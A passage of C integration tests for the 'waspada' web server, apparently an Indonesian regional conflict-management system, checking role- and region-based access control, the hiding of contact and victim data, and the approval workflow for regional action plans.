/*
 * Integration tests of plan and control: `waspada init --demo`, the real server on loopback,
 * libcurl as the client, the CLI for import and export.
 *
 * Objects used by the authorization matrix live in three regions: 32 (Jawa Barat: own province
 * of the demo user "jabar"), 32.73 (Kota Bandung: a regency of 32 and own regency of
 * "bandung") and 31 (DKI Jakarta: foreign to both).
 */
#include <jansson.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "base/base.h"
#include "store/store.h"
#include "../support/support.h"
#include "../support/testdb.h"

#define PW "waspada-demo"
#define NROLES 5
#define NREG 3

static char *tmpdir, *db_path;
static struct support_server server;
static bool running;
static int demo_year;

static const char *const users[NROLES] = {"admin", "pusat", "jabar", "bandung", "pelapor"};
static const char *const regs[NREG] = {"32", "32.73", "31"};
static struct support_http clients[NROLES];
static char csrf[NROLES][65];

/* ---- helpers ---------------------------------------------------------------------------- */

static long req(struct support_http *c, const char *tok, const char *method, const char *path,
                const char *body, size_t len, json_t **out)
{
    char hdr[128];
    snprintf(hdr, sizeof(hdr), "X-CSRF-Token: %s", tok ? tok : "");
    const char *headers[] = {hdr, NULL};
    struct support_response r;
    long status = support_http(c, method, path, body, body ? len : 0, tok ? headers : NULL, &r);
    if (out) {
        *out = r.body ? json_loads(r.body, 0, NULL) : NULL;
    }
    support_response_free(&r);
    return status;
}

/* As role i; fails the test unless the status is expected; returns the JSON (or NULL). */
static json_t *as(int i, const char *method, const char *path, const char *body, long expect)
{
    json_t *v = NULL;
    long st = req(&clients[i], csrf[i], method, path, body, body ? strlen(body) : 0, &v);
    if (st != expect) {
        char *dump = v ? json_dumps(v, 0) : NULL;
        fail_msg("%s %s %s: expected %ld, got %ld: %s", users[i], method, path, expect, st,
                 dump ? dump : "");
    }
    return v;
}

static json_int_t jint(json_t *o, const char *k)
{
    json_t *v = json_object_get(o, k);
    if (!json_is_integer(v))
        fail_msg("field '%s' is not an integer", k);
    return json_integer_value(v);
}

static const char *jstr(json_t *o, const char *k)
{
    json_t *v = json_object_get(o, k);
    if (!json_is_string(v))
        fail_msg("field '%s' is not a string", k);
    return json_string_value(v);
}

/* id of the first item of a list (as admin). */
static json_int_t first_id(const char *path)
{
    json_t *v = as(0, "GET", path, NULL, 200);
    json_t *it = json_array_get(json_object_get(v, "items"), 0);
    if (!it)
        fail_msg("no items in %s", path);
    json_int_t id = jint(it, "id");
    json_decref(v);
    return id;
}

static json_int_t create(const char *path, const char *body, const char *key)
{
    json_t *v = as(0, "POST", path, body, 201);
    json_int_t id = jint(json_object_get(v, key), "id");
    json_decref(v);
    return id;
}

/* ---- setup ------------------------------------------------------------------------------ */

static int group_setup(void **state)
{
    (void)state;
    setenv("WASPADA_FAST_HASH", "1", 1);
    tmpdir = support_tmpdir();
    db_path = testdb_new(tmpdir, "plan.db");
    struct support_run r;
    const char *init[] = {"--db", db_path, "init", "--demo", NULL};
    if (support_run(&r, NULL, init) != 0) {
        fprintf(stderr, "init failed: %s\n", r.err);
        support_run_free(&r);
        return -1;
    }
    support_run_free(&r);
    /* Running init --demo again changes nothing (idempotent). */
    if (support_run(&r, NULL, init) != 0)
        return -1;
    support_run_free(&r);
    char *log = support_path(tmpdir, "server.log");
    const char *extra[] = {"--threads", "3", "--login-max-failures", "50", NULL};
    int rc = support_server_start(&server, db_path, extra, log);
    free(log);
    running = rc == 0;
    if (rc)
        return rc;
    for (int i = 0; i < NROLES; i++) {
        support_http_init(&clients[i], server.base_url);
        char *body = xasprintf("{\"username\":\"%s\",\"password\":\"%s\"}", users[i], PW);
        json_t *v = NULL;
        long st = req(&clients[i], NULL, "POST", "/api/v1/auth/login", body, strlen(body), &v);
        free(body);
        if (st != 200 || !v)
            return -1;
        str_copy(csrf[i], json_string_value(json_object_get(v, "csrf_token")), 65);
        json_decref(v);
    }
    return 0;
}

static int group_teardown(void **state)
{
    (void)state;
    for (int i = 0; i < NROLES; i++)
        support_http_cleanup(&clients[i]);
    int rc = running && support_server_stop(&server) != 0 ? -1 : 0;
    if (rc || getenv("WASPADA_KEEP_TMP"))
        fprintf(stderr, "test files kept in %s\n", tmpdir);
    else
        support_rmtree(tmpdir);
    free(db_path);
    free(tmpdir);
    return rc;
}

/* ---- authorization matrix --------------------------------------------------------------- */

/* Expected statuses per role (admin, pusat, jabar, bandung, pelapor) and object region
 * (32, 32.73, 31). */
typedef long grid[NROLES][NREG];

#define READ_OK(s)                                                                                 \
    {                                                                                              \
        {s, s, s}, {s, s, s}, {s, s, 403}, {403, s, 403},                                          \
        {                                                                                          \
            403, 403, 403                                                                          \
        }                                                                                          \
    }
#define EDIT_OK(s)                                                                                 \
    {                                                                                              \
        {s, s, s}, {403, 403, 403}, {s, 403, 403}, {403, s, 403},                                  \
        {                                                                                          \
            403, 403, 403                                                                          \
        }                                                                                          \
    }
#define CASE_EDIT_OK(s)                                                                            \
    {                                                                                              \
        {s, s, s}, {403, 403, 403}, {s, s, 403}, {403, s, 403},                                    \
        {                                                                                          \
            403, 403, 403                                                                          \
        }                                                                                          \
    }

struct endpoint {
    const char *method;
    const char *path; /* %lld = object id, or %s = region code */
    const char *body;
    json_int_t ids[NREG]; /* 0 when the path takes the region */
    grid expect;
};

static void run_matrix(struct endpoint *eps, size_t n)
{
    for (size_t e = 0; e < n; e++) {
        for (int g = 0; g < NREG; g++) {
            char path[256];
            if (eps[e].ids[g])
                snprintf(path, sizeof(path), eps[e].path, (long long)eps[e].ids[g]);
            else
                snprintf(path, sizeof(path), eps[e].path, regs[g]);
            /* Not logged in: 401 everywhere. */
            struct support_http anon;
            support_http_init(&anon, server.base_url);
            long st = req(&anon, NULL, eps[e].method, path, eps[e].body,
                          eps[e].body ? strlen(eps[e].body) : 0, NULL);
            support_http_cleanup(&anon);
            if (st != 401)
                fail_msg("anonymous %s %s: expected 401, got %ld", eps[e].method, path, st);
            for (int r = 0; r < NROLES; r++)
                json_decref(as(r, eps[e].method, path, eps[e].body, eps[e].expect[r][g]));
        }
    }
}

/* POST as admin, then the id of the element named `name` in reply[obj][list]: members and
 * Pokja come back inside their Timdu or plan. */
static json_int_t create_in(const char *path, const char *body, const char *obj, const char *list,
                            const char *name)
{
    json_t *v = as(0, "POST", path, body, 201);
    json_t *items = json_object_get(json_object_get(v, obj), list);
    json_int_t id = 0;
    for (size_t i = 0; i < json_array_size(items); i++)
        if (str_eq(jstr(json_array_get(items, i), "name"), name))
            id = jint(json_array_get(items, i), "id");
    json_decref(v);
    assert_true(id > 0);
    return id;
}

static void test_authorization_matrix(void **state)
{
    (void)state;
    char q[128];
    json_int_t timdu[NREG], forum[NREG], rad[NREG], draft[NREG], progress[NREG], cases[NREG];
    for (int g = 0; g < NREG; g++) {
        snprintf(q, sizeof(q), "/api/v1/timdu?region=%s", regs[g]);
        json_t *v = as(0, "GET", q, NULL, 200);
        json_t *items = json_object_get(v, "items");
        /* the list is by region prefix: pick the one of exactly this region */
        for (size_t i = 0; i < json_array_size(items); i++)
            if (str_eq(jstr(json_array_get(items, i), "region"), regs[g]))
                timdu[g] = jint(json_array_get(items, i), "id");
        json_decref(v);
        char *body = xasprintf("{\"region\":\"%s\",\"kind\":\"fkb\",\"name\":\"Forum Kesatuan "
                               "Bangsa\",\"contact_phone\":\"0800\"}",
                               regs[g]);
        forum[g] = create("/api/v1/forums", body, "forum");
        free(body);
        snprintf(q, sizeof(q), "/api/v1/rad?region=%s&type=pks&year=%d", regs[g], demo_year);
        v = as(0, "GET", q, NULL, 200);
        items = json_object_get(v, "items");
        for (size_t i = 0; i < json_array_size(items); i++)
            if (str_eq(jstr(json_array_get(items, i), "region"), regs[g]))
                rad[g] = jint(json_array_get(items, i), "id");
        json_decref(v);
        body = xasprintf("{\"region\":\"%s\",\"year\":2030,\"type\":\"pks\",\"title\":\"RAD "
                         "matriks\"}",
                         regs[g]);
        draft[g] = create("/api/v1/rad", body, "rad");
        free(body);
        body = xasprintf("{\"title\":\"Kasus matriks\",\"region\":\"%s\",\"issue\":\"identitas\"}",
                         regs[g]);
        cases[g] = create("/api/v1/cases", body, "case");
        free(body);
    }
    /* A progress report for 31: admin approves a new P3AKS plan of the demo year. */
    char *body = xasprintf("{\"region\":\"31\",\"year\":%d,\"type\":\"p3aks\",\"title\":\"P3AKS "
                           "DKI\"}",
                           demo_year);
    json_int_t p31 = create("/api/v1/rad", body, "rad");
    free(body);
    snprintf(q, sizeof(q), "/api/v1/rad/%lld/actions", (long long)p31);
    json_int_t a31 = create(q,
                            "{\"phase\":\"pencegahan\",\"program\":\"P\",\"kegiatan\":\"K\","
                            "\"opd\":\"DP3A\"}",
                            "action");
    snprintf(q, sizeof(q), "/api/v1/rad/%lld/submit", (long long)p31);
    json_decref(as(0, "POST", q, NULL, 200));
    snprintf(q, sizeof(q), "/api/v1/rad/%lld/approve", (long long)p31);
    json_decref(as(0, "POST", q, NULL, 200));
    snprintf(q, sizeof(q), "/api/v1/actions/%lld/progress", (long long)a31);
    progress[2] = create(q, "{\"period\":\"B-04\",\"physical_pct\":50}", "progress");
    for (int g = 0; g < 2; g++) {
        snprintf(q, sizeof(q), "/api/v1/progress?rad=%lld", (long long)rad[g]);
        progress[g] = first_id(q);
    }

    struct endpoint eps[] = {
        {"GET", "/api/v1/timdu/%lld", NULL, {timdu[0], timdu[1], timdu[2]}, READ_OK(200)},
        {"PATCH",
         "/api/v1/timdu/%lld",
         "{\"notes\":\"diperbarui\"}",
         {timdu[0], timdu[1], timdu[2]},
         EDIT_OK(200)},
        {"POST",
         "/api/v1/timdu/%lld/members",
         "{\"name\":\"Anggota Baru\",\"subteam\":"
         "\"pemulihan\"}",
         {timdu[0], timdu[1], timdu[2]},
         EDIT_OK(201)},
        {"GET", "/api/v1/timdu?region=%s", NULL, {0}, READ_OK(200)},
        {"GET", "/api/v1/forums/%lld", NULL, {forum[0], forum[1], forum[2]}, READ_OK(200)},
        {"PATCH",
         "/api/v1/forums/%lld",
         "{\"name\":\"Forum KB\"}",
         {forum[0], forum[1], forum[2]},
         EDIT_OK(200)},
        {"GET", "/api/v1/forums?region=%s", NULL, {0}, READ_OK(200)},
        {"GET", "/api/v1/rad/%lld", NULL, {rad[0], rad[1], rad[2]}, READ_OK(200)},
        {"GET", "/api/v1/rad/%lld/versions", NULL, {rad[0], rad[1], rad[2]}, READ_OK(200)},
        {"GET", "/api/v1/rad/%lld/versions/1", NULL, {rad[0], rad[1], rad[2]}, READ_OK(200)},
        {"GET", "/api/v1/rad?region=%s", NULL, {0}, READ_OK(200)},
        {"PATCH",
         "/api/v1/rad/%lld",
         "{\"title\":\"RAD diubah\"}",
         {draft[0], draft[1], draft[2]},
         EDIT_OK(200)},
        {"POST",
         "/api/v1/rad/%lld/actions",
         "{\"phase\":\"pemulihan\",\"program\":\"P\",\"kegiatan\":\"K\",\"opd\":\"Dinsos\"}",
         {draft[0], draft[1], draft[2]},
         EDIT_OK(201)},
        {"POST",
         "/api/v1/rad/%lld/pokja",
         "{\"name\":\"Anggota Pokja\"}",
         {draft[0], draft[1], draft[2]},
         EDIT_OK(201)},
        {"GET",
         "/api/v1/progress/%lld",
         NULL,
         {progress[0], progress[1], progress[2]},
         READ_OK(200)},
        {"PATCH",
         "/api/v1/progress/%lld",
         "{\"narrative\":\"diperbarui\"}",
         {progress[0], progress[1], progress[2]},
         EDIT_OK(200)},
        {"GET", "/api/v1/progress?region=%s", NULL, {0}, READ_OK(200)},
        {"GET", "/api/v1/cases/%lld", NULL, {cases[0], cases[1], cases[2]}, READ_OK(200)},
        {"PATCH",
         "/api/v1/cases/%lld",
         "{\"parties\":\"kelompok A; kelompok B\"}",
         {cases[0], cases[1], cases[2]},
         CASE_EDIT_OK(200)},
        {"POST",
         "/api/v1/cases/%lld/actions",
         "{\"phase\":\"pencegahan\",\"date\":\"2026-01-05\",\"description\":\"Dialog\"}",
         {cases[0], cases[1], cases[2]},
         CASE_EDIT_OK(201)},
        {"GET", "/api/v1/cases?region=%s", NULL, {0}, READ_OK(200)},
        {"GET", "/api/v1/compliance?year=2026&region=%s", NULL, {0}, READ_OK(200)},
        {"GET", "/api/v1/compliance/report?year=2026&region=%s", NULL, {0}, READ_OK(200)},
        {"GET", "/api/v1/opd?year=2026&region=%s", NULL, {0}, READ_OK(200)},
        {"GET", "/api/v1/compliance/export?year=2026&region=%s", NULL, {0}, READ_OK(200)},
        {"GET", "/api/v1/rad/export?year=2026&region=%s", NULL, {0}, READ_OK(200)},
        {"GET", "/api/v1/progress/export?year=2026&format=xlsx&region=%s", NULL, {0}, READ_OK(200)},
    };
    run_matrix(eps, WSP_ARRAY_LEN(eps));

    /* Endpoints without a region. */
    static const struct {
        const char *method, *path, *body;
        long expect[NROLES];
    } global[] = {
        {"GET", "/api/v1/calendar", NULL, {200, 200, 200, 200, 403}},
        {"PUT",
         "/api/v1/calendar/p3aks",
         "{\"period_type\":\"b4\",\"deadline_days\":10,\"grace_days\":5}",
         {200, 200, 403, 403, 403}},
        {"GET", "/api/v1/rad", NULL, {200, 200, 200, 200, 403}},
        {"GET", "/api/v1/timdu", NULL, {200, 200, 200, 200, 403}},
        {"GET", "/api/v1/cases", NULL, {200, 200, 200, 200, 403}},
        {"GET", "/api/v1/progress", NULL, {200, 200, 200, 200, 403}},
        {"GET", "/api/v1/compliance?year=2026", NULL, {200, 200, 200, 200, 403}},
        {"GET", "/api/v1/compliance/export?year=2026", NULL, {200, 200, 200, 200, 403}},
        {"GET", "/api/v1/rad/export?year=2026&format=xlsx", NULL, {200, 200, 200, 200, 403}},
        {"GET", "/api/v1/progress/export?year=2026", NULL, {200, 200, 200, 200, 403}},
    };
    for (size_t e = 0; e < WSP_ARRAY_LEN(global); e++)
        for (int r = 0; r < NROLES; r++)
            json_decref(
                as(r, global[e].method, global[e].path, global[e].body, global[e].expect[r]));

    /* An action may cite only cases the plan's officer may read: jabar (32) may cite Kota
     * Bandung's case but not DKI Jakarta's, bandung not Jawa Barat's; the same on PATCH. */
    snprintf(q, sizeof(q), "/api/v1/rad/%lld/actions", (long long)draft[0]);
    char *cb = xasprintf("{\"phase\":\"pencegahan\",\"program\":\"P\",\"kegiatan\":\"K\","
                         "\"opd\":\"Dinas\",\"cases\":[%lld]}",
                         (long long)cases[2]);
    json_decref(as(2, "POST", q, cb, 403));
    free(cb);
    cb = xasprintf("{\"phase\":\"pencegahan\",\"program\":\"P\",\"kegiatan\":\"K\","
                   "\"opd\":\"Dinas\",\"cases\":[%lld]}",
                   (long long)cases[1]);
    json_t *av = as(2, "POST", q, cb, 201);
    free(cb);
    json_int_t cited = jint(json_object_get(av, "action"), "id");
    json_decref(av);
    snprintf(q, sizeof(q), "/api/v1/actions/%lld", (long long)cited);
    cb = xasprintf("{\"cases\":[%lld,%lld]}", (long long)cases[1], (long long)cases[2]);
    json_decref(as(2, "PATCH", q, cb, 403));
    free(cb);
    json_decref(as(2, "DELETE", q, NULL, 200));
    snprintf(q, sizeof(q), "/api/v1/rad/%lld/actions", (long long)draft[1]);
    cb = xasprintf("{\"phase\":\"pencegahan\",\"program\":\"P\",\"kegiatan\":\"K\","
                   "\"opd\":\"Dinas\",\"cases\":[%lld]}",
                   (long long)cases[0]);
    json_decref(as(3, "POST", q, cb, 403));
    free(cb);

    /* Deletes: every role x every region on a fresh object each time (a delete consumes
     * it). Allowed exactly where EDIT_OK allows: admin, and the officer of that region. */
    static const grid del_ok = EDIT_OK(200);
    for (int g = 0; g < NREG; g++) {
        for (int r = 0; r < NROLES; r++) {
            /* Timdu member */
            snprintf(q, sizeof(q), "/api/v1/timdu/%lld/members", (long long)timdu[g]);
            json_int_t mid =
                create_in(q, "{\"name\":\"Anggota Sementara\",\"subteam\":\"pencegahan\"}", "timdu",
                          "member_list", "Anggota Sementara");
            snprintf(q, sizeof(q), "/api/v1/timdu/%lld/members/%lld", (long long)timdu[g],
                     (long long)mid);
            json_decref(as(r, "DELETE", q, NULL, del_ok[r][g]));
            /* Pokja member and action of a draft plan */
            snprintf(q, sizeof(q), "/api/v1/rad/%lld/pokja", (long long)draft[g]);
            json_int_t pid =
                create_in(q, "{\"name\":\"Pokja Sementara\"}", "rad", "pokja", "Pokja Sementara");
            snprintf(q, sizeof(q), "/api/v1/rad/%lld/pokja/%lld", (long long)draft[g],
                     (long long)pid);
            json_decref(as(r, "DELETE", q, NULL, del_ok[r][g]));
            snprintf(q, sizeof(q), "/api/v1/rad/%lld/actions", (long long)draft[g]);
            json_int_t aid = create(q,
                                    "{\"phase\":\"pencegahan\",\"program\":\"P\",\"kegiatan\":"
                                    "\"K\",\"opd\":\"Dinas\"}",
                                    "action");
            snprintf(q, sizeof(q), "/api/v1/actions/%lld", (long long)aid);
            json_decref(as(r, "DELETE", q, NULL, del_ok[r][g]));
        }
    }
    /* A Timdu decree itself: a fresh one per region, tried by every role but the last
     * allowed one, then removed by the region's own officer (or admin for 31). */
    for (int g = 0; g < NREG; g++) {
        char *tb = xasprintf("{\"region\":\"%s\",\"sk_number\":\"SK/MATRIKS/%d\","
                             "\"sk_date\":\"2026-01-10\",\"valid_from\":\"2026-01-10\","
                             "\"valid_until\":\"2026-12-31\",\"signed_by\":\"Kepala Daerah\"}",
                             regs[g], g);
        json_int_t tid = create("/api/v1/timdu", tb, "timdu");
        free(tb);
        snprintf(q, sizeof(q), "/api/v1/timdu/%lld", (long long)tid);
        for (int r = NROLES - 1; r >= 1; r--)
            if (del_ok[r][g] != 200)
                json_decref(as(r, "DELETE", q, NULL, del_ok[r][g]));
        int owner = g == 0 ? 2 : g == 1 ? 3 : 0;
        json_decref(as(owner, "DELETE", q, NULL, 200));
        json_decref(as(0, "GET", q, NULL, 404));
    }

    /* Forums last (they remove the matrix objects). */
    json_t *v = as(3, "GET", "/api/v1/timdu?region=32.73", NULL, 200);
    json_decref(v);
    snprintf(q, sizeof(q), "/api/v1/forums/%lld", (long long)forum[2]);
    json_decref(as(2, "DELETE", q, NULL, 403));
    json_decref(as(1, "DELETE", q, NULL, 403));
    json_decref(as(0, "DELETE", q, NULL, 200));
    snprintf(q, sizeof(q), "/api/v1/forums/%lld", (long long)forum[0]);
    json_decref(as(3, "DELETE", q, NULL, 403));
    json_decref(as(2, "DELETE", q, NULL, 200));
    json_decref(as(2, "GET", q, NULL, 404));
}

/* ---- privacy ---------------------------------------------------------------------------- */

static void test_contacts_and_victims(void **state)
{
    (void)state;
    json_int_t t32 = 0, t3273 = 0;
    json_t *v = as(0, "GET", "/api/v1/timdu?region=32", NULL, 200);
    json_t *items = json_object_get(v, "items");
    for (size_t i = 0; i < json_array_size(items); i++) {
        json_t *it = json_array_get(items, i);
        if (str_eq(jstr(it, "region"), "32"))
            t32 = jint(it, "id");
        if (str_eq(jstr(it, "region"), "32.73"))
            t3273 = jint(it, "id");
    }
    json_decref(v);
    char q[96];
    /* jabar sees phones in its own province's Timdu but not in its regency's. */
    snprintf(q, sizeof(q), "/api/v1/timdu/%lld", (long long)t32);
    v = as(2, "GET", q, NULL, 200);
    json_t *m0 = json_array_get(json_object_get(json_object_get(v, "timdu"), "member_list"), 0);
    assert_string_equal(jstr(m0, "phone"), "0812000101");
    json_decref(v);
    snprintf(q, sizeof(q), "/api/v1/timdu/%lld", (long long)t3273);
    v = as(2, "GET", q, NULL, 200);
    json_t *t = json_object_get(v, "timdu");
    assert_true(json_is_false(json_object_get(t, "contacts_visible")));
    m0 = json_array_get(json_object_get(t, "member_list"), 0);
    assert_null(json_object_get(m0, "phone"));
    json_decref(v);
    v = as(3, "GET", q, NULL, 200); /* bandung: its own */
    m0 = json_array_get(json_object_get(json_object_get(v, "timdu"), "member_list"), 0);
    assert_non_null(json_object_get(m0, "phone"));
    json_decref(v);
    v = as(1, "GET", q, NULL, 200); /* pusat: the national desk */
    m0 = json_array_get(json_object_get(json_object_get(v, "timdu"), "member_list"), 0);
    assert_non_null(json_object_get(m0, "phone"));
    json_decref(v);

    /* Victims: the demo case in 72.02 has one named victim (an invented name); admin sees
     * it, pusat only the counts. */
    json_int_t cid = first_id("/api/v1/cases?region=72.02");
    snprintf(q, sizeof(q), "/api/v1/cases/%lld", (long long)cid);
    v = as(0, "GET", q, NULL, 200);
    json_t *vict = json_object_get(json_object_get(v, "case"), "victims");
    char *victim = xstrdup(jstr(json_array_get(json_object_get(vict, "people"), 0), "name"));
    assert_true(strlen(victim) > 5);
    json_decref(v);
    v = as(1, "GET", q, NULL, 200);
    vict = json_object_get(json_object_get(v, "case"), "victims");
    assert_int_equal(jint(vict, "total"), 11);
    assert_null(json_object_get(vict, "people"));
    char *text = json_dumps(v, 0);
    assert_null(strstr(text, victim));
    free(text);
    free(victim);
    json_decref(v);
    /* A case in jabar's own regency: jabar sees names, pusat does not. */
    json_int_t c2 = create("/api/v1/cases",
                           "{\"title\":\"Kasus P3AKS\",\"region\":\"32.73\","
                           "\"issue\":\"identitas\"}",
                           "case");
    snprintf(q, sizeof(q), "/api/v1/cases/%lld/victims", (long long)c2);
    json_decref(as(2, "PUT", q,
                   "{\"counts\":{\"p\":{\"anak\":2}},\"people\":[{\"name\":\"Anak Rahasia\","
                   "\"sex\":\"p\",\"age\":9}]}",
                   200));
    json_decref(as(1, "PUT", q, "{\"counts\":{}}", 403));
    snprintf(q, sizeof(q), "/api/v1/cases/%lld", (long long)c2);
    v = as(2, "GET", q, NULL, 200);
    vict = json_object_get(json_object_get(v, "case"), "victims");
    assert_int_equal(jint(vict, "total"), 2);
    assert_non_null(json_object_get(vict, "people"));
    json_decref(v);
    v = as(1, "GET", q, NULL, 200);
    char *dump = json_dumps(v, 0);
    assert_null(strstr(dump, "Anak Rahasia"));
    free(dump);
    json_decref(v);
    /* Status Keadaan Konflik: at most 90 days; the case workflow. */
    json_decref(as(2, "PATCH", q,
                   "{\"status\":\"aktif\",\"status_keadaan_konflik\":{\"level\":"
                   "\"kabupaten_kota\",\"decree\":\"Kep. Wali Kota 1\",\"start\":\"2026-01-01\","
                   "\"end\":\"2026-04-02\"}}",
                   400));
    json_decref(as(2, "PATCH", q,
                   "{\"status\":\"aktif\",\"status_keadaan_konflik\":{\"level\":"
                   "\"kabupaten_kota\",\"decree\":\"Kep. Wali Kota 1\",\"start\":\"2026-01-01\","
                   "\"end\":\"2026-04-01\"}}",
                   200));
    json_decref(as(2, "PATCH", q, "{\"status\":\"selesai\"}", 409));
    json_decref(as(2, "PATCH", q, "{\"status\":\"dihentikan\"}", 200));
}

/* A case's event must exist (404) and lie in the case's region (403), on create and on
 * PATCH: a case shows its event's follow-ups and proposals. */
static void test_case_event_link(void **state)
{
    (void)state;
    /* an event in Kota Bandung: a community report of the demo reporter */
    json_t *r = as(4, "POST", "/api/v1/reports",
                   "{\"what\":\"Bentrok dua kelompok di Cibiru\",\"where\":\"32.73\"}", 201);
    json_int_t bdg = jint(r, "event_id");
    json_decref(r);
    json_int_t other = first_id("/api/v1/events?region=72&limit=1"); /* Sulawesi Tengah */
    json_t *v = as(0, "GET", "/api/v1/events/999999", NULL, 404);
    json_decref(v);
    char body[256];
    /* bandung (kabkota 32.73): a missing event, another region's, then its own */
    snprintf(body, sizeof(body),
             "{\"title\":\"Kasus dari kejadian\",\"region\":\"32.73\",\"issue\":\"identitas\","
             "\"event_id\":%d}",
             999999);
    json_decref(as(3, "POST", "/api/v1/cases", body, 404));
    snprintf(body, sizeof(body),
             "{\"title\":\"Kasus dari kejadian\",\"region\":\"32.73\",\"issue\":\"identitas\","
             "\"event_id\":%lld}",
             (long long)other);
    v = as(3, "POST", "/api/v1/cases", body, 403);
    assert_non_null(strstr(jstr(json_object_get(v, "error"), "message"), "not in the case's"));
    json_decref(v);
    snprintf(body, sizeof(body),
             "{\"title\":\"Kasus dari kejadian\",\"region\":\"32.73\",\"issue\":\"identitas\","
             "\"event_id\":%lld}",
             (long long)bdg);
    v = as(3, "POST", "/api/v1/cases", body, 201);
    json_int_t cid = jint(json_object_get(v, "case"), "id");
    assert_int_equal(jint(json_object_get(v, "case"), "event_id"), bdg);
    json_decref(v);
    /* PATCH: the same checks; the link stays as it was */
    char path[64];
    snprintf(path, sizeof(path), "/api/v1/cases/%lld", (long long)cid);
    snprintf(body, sizeof(body), "{\"event_id\":%lld}", (long long)other);
    json_decref(as(3, "PATCH", path, body, 403));
    json_decref(as(0, "PATCH", path, body, 403)); /* admin too: it is about the case's region */
    json_decref(as(3, "PATCH", path, "{\"event_id\":999999}", 404));
    v = as(3, "GET", path, NULL, 200);
    assert_int_equal(jint(json_object_get(v, "case"), "event_id"), bdg);
    json_decref(v);
    /* jabar (provinsi 32): a province's case may be opened from its regency's event */
    snprintf(body, sizeof(body),
             "{\"title\":\"Kasus provinsi\",\"region\":\"32\",\"issue\":\"identitas\","
             "\"event_id\":%lld}",
             (long long)bdg);
    json_decref(as(2, "POST", "/api/v1/cases", body, 201));
}

/* ---- RAD workflow ----------------------------------------------------------------------- */

static void test_rad_workflow(void **state)
{
    (void)state;
    const char *body = "{\"region\":\"32\",\"year\":2027,\"type\":\"pks\",\"title\":\"RAD PKS "
                       "Jawa Barat 2027\"}";
    json_decref(as(1, "POST", "/api/v1/rad", body, 403));
    json_decref(as(3, "POST", "/api/v1/rad", body, 403));
    json_decref(as(4, "POST", "/api/v1/rad", body, 403));
    json_t *v = as(2, "POST", "/api/v1/rad", body, 201);
    json_int_t id = jint(json_object_get(v, "rad"), "id");
    assert_string_equal(jstr(json_object_get(v, "rad"), "status"), "draft");
    json_decref(v);
    json_decref(as(2, "POST", "/api/v1/rad", body, 409));
    json_decref(as(2, "POST", "/api/v1/rad",
                   "{\"region\":\"31\",\"year\":2027,\"type\":\"pks\",\"title\":\"x\"}", 403));
    char p[96];
    snprintf(p, sizeof(p), "/api/v1/rad/%lld/actions", (long long)id);
    json_decref(as(2, "POST", p,
                   "{\"phase\":\"pencegahn\",\"program\":\"P\",\"kegiatan\":\"K\",\"opd\":\"O\"}",
                   400));
    /* cites the demo's case 2 (Kota Bandung, inside Jawa Barat); case 1 (Poso) is out of
     * jabar's reach and would be 403 (test_authorization_matrix) */
    v = as(2, "POST", p,
           "{\"phase\":\"pencegahan\",\"program\":\"Sistem Peringatan Dini\",\"kegiatan\":"
           "\"Pemetaan\",\"opd\":\"Badan Kesbangpol\",\"anggaran\":150000000,\"target\":1,"
           "\"unit\":\"dokumen\",\"targets\":{\"B-04\":0,\"B-08\":1},\"cases\":[2]}",
           201);
    json_int_t aid = jint(json_object_get(v, "action"), "id");
    json_decref(v);
    snprintf(p, sizeof(p), "/api/v1/rad/%lld/approve", (long long)id);
    json_decref(as(1, "POST", p, NULL, 409)); /* not submitted yet */
    snprintf(p, sizeof(p), "/api/v1/rad/%lld/submit", (long long)id);
    json_decref(as(1, "POST", p, NULL, 403));
    json_decref(as(3, "POST", p, NULL, 403));
    v = as(2, "POST", p, NULL, 200);
    assert_string_equal(jstr(json_object_get(v, "rad"), "status"), "diajukan");
    json_decref(v);
    json_decref(as(2, "POST", p, NULL, 409));
    snprintf(p, sizeof(p), "/api/v1/actions/%lld", (long long)aid);
    json_decref(as(2, "PATCH", p, "{\"kegiatan\":\"Diubah\"}", 409)); /* locked */
    snprintf(p, sizeof(p), "/api/v1/rad/%lld/approve", (long long)id);
    json_decref(as(2, "POST", p, NULL, 403));
    snprintf(p, sizeof(p), "/api/v1/rad/%lld/return", (long long)id);
    json_decref(as(1, "POST", p, NULL, 400));
    json_decref(as(1, "POST", p, "{\"notes\":\"\"}", 400));
    v = as(1, "POST", p, "{\"notes\":\"Lengkapi indikator pemulihan\"}", 200);
    assert_string_equal(jstr(json_object_get(v, "rad"), "status"), "dikembalikan");
    assert_string_equal(jstr(json_object_get(v, "rad"), "review_notes"),
                        "Lengkapi indikator pemulihan");
    json_decref(v);
    snprintf(p, sizeof(p), "/api/v1/actions/%lld", (long long)aid);
    json_decref(as(2, "PATCH", p, "{\"kegiatan\":\"Pemetaan wilayah rawan\"}", 200));
    snprintf(p, sizeof(p), "/api/v1/rad/%lld/submit", (long long)id);
    json_decref(as(2, "POST", p, NULL, 200));
    snprintf(p, sizeof(p), "/api/v1/rad/%lld/approve", (long long)id);
    v = as(1, "POST", p, NULL, 200);
    assert_string_equal(jstr(json_object_get(v, "rad"), "status"), "disetujui");
    assert_string_equal(jstr(json_object_get(v, "rad"), "reviewed_by"), "pusat");
    json_decref(v);
    json_decref(as(1, "POST", p, NULL, 409));

    snprintf(p, sizeof(p), "/api/v1/rad/%lld/versions", (long long)id);
    v = as(2, "GET", p, NULL, 200);
    /* create, action.add, submit, return, action.update, submit, approve */
    assert_int_equal(jint(v, "total"), 7);
    static const char *const changes[] = {"approve", "submit",     "action.update", "return",
                                          "submit",  "action.add", "create"};
    for (size_t i = 0; i < 7; i++)
        assert_string_equal(jstr(json_array_get(json_object_get(v, "items"), i), "change"),
                            changes[i]);
    json_decref(v);
    snprintf(p, sizeof(p), "/api/v1/rad/%lld/versions/4", (long long)id);
    v = as(2, "GET", p, NULL, 200);
    json_t *snap = json_object_get(v, "snapshot");
    assert_string_equal(jstr(snap, "status"), "dikembalikan");
    assert_string_equal(jstr(json_array_get(json_object_get(snap, "actions"), 0), "kegiatan"),
                        "Pemetaan");
    json_decref(v);

    /* Audit: the approval with before/after. */
    snprintf(p, sizeof(p), "/api/v1/audit?action=rad.approve&object_type=rad&object_id=%lld",
             (long long)id);
    v = as(0, "GET", p, NULL, 200);
    json_t *row = json_array_get(json_object_get(v, "items"), 0);
    assert_non_null(row);
    assert_string_equal(jstr(row, "username"), "pusat");
    assert_string_equal(jstr(json_object_get(row, "before"), "status"), "diajukan");
    assert_string_equal(jstr(json_object_get(row, "after"), "status"), "disetujui");
    json_decref(v);

